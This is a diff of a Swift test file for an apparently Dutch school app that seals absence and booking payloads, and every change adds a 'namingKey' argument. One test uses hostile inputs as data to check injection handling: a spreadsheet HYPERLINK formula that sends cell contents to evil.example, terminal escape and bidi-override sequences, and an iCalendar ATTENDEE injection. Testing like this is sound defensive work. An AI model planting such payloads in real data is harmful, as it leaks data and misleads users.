@@ -65,13 +65,13 @@ final class InboxCommandTests: XCTestCase {
         defer { receiver.stop() }
         let base = receiver.base
         let absence = try AbsencePayload(child: "Sam Testkind", reason: .ziek, note: "Koorts sinds vannacht")
-            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-02"), inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-02"), inboxPublicKey: inbox, namingKey: true)
         _ = try await parent.send("POST", "/v1/absences", body: try json([
             "group": "groep-5", "from": "2026-12-01", "to": "2026-12-02", "sealed": absence.jsonObject,
         ]))
         let booking = try BookingPayload(child: "Sam Testkind").seal(
             tokenID: school.tokenID,
-            binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:15"), inboxPublicKey: inbox)
+            binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:15"), inboxPublicKey: inbox, namingKey: true)
         _ = try await parent.send("POST", "/v1/bookings", body: try json([
             "schedule": school.scheduleID, "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
         ]))
@@ -132,7 +132,7 @@ final class InboxCommandTests: XCTestCase {
         let api = receiver.base + "/api"
         // An app of format 1 books under the path, sealed to the path.
         let booking = try BookingPayload(child: "Noor Oudformaat").seal(
-            tokenID: school.tokenID, binding: .booking(schedule: path, slot: "2031-02-04T18:30"), inboxPublicKey: inbox)
+            tokenID: school.tokenID, binding: .booking(schedule: path, slot: "2031-02-04T18:30"), inboxPublicKey: inbox, namingKey: true)
         _ = try await parent.send("POST", "/v1/bookings", body: try json([
             "schedule": path, "slot": "2031-02-04T18:30", "sealed": booking.jsonObject,
         ]))
@@ -151,7 +151,7 @@ final class InboxCommandTests: XCTestCase {
         XCTAssertFalse(admin.stdout.contains("cannot be opened"), admin.stdout)
         // The slot stays taken under the new id: the family's second claim is refused.
         let again = try BookingPayload(child: "Noor Oudformaat").seal(
-            tokenID: school.tokenID, binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:30"), inboxPublicKey: inbox)
+            tokenID: school.tokenID, binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:30"), inboxPublicKey: inbox, namingKey: true)
         do {
             _ = try await parent.send("POST", "/v1/bookings", body: try json([
                 "schedule": school.scheduleID, "slot": "2031-02-04T18:30", "sealed": again.jsonObject,
@@ -171,13 +171,13 @@ final class InboxCommandTests: XCTestCase {
         defer { receiver.stop() }
         let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")"
         let absence = try AbsencePayload(child: formula, reason: .ziek, note: "Rood\u{1B}[31m\u{1B}]0;titel\u{07}\u{202E}tekst")
-            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-01"), inboxPublicKey: inbox)
+            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-01"), inboxPublicKey: inbox, namingKey: true)
         _ = try await parent.send("POST", "/v1/absences", body: try json([
             "group": "groep-5", "from": "2026-12-01", "to": "2026-12-01", "sealed": absence.jsonObject,
         ]))
         let booking = try BookingPayload(child: "Sam\rATTENDEE:mailto:evil@example.com", note: "a;b,c\\d\ne")
             .seal(tokenID: school.tokenID, binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:15"),
-                  inboxPublicKey: inbox)
+                  inboxPublicKey: inbox, namingKey: true)
         _ = try await parent.send("POST", "/v1/bookings", body: try json([
             "schedule": school.scheduleID, "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
         ]))
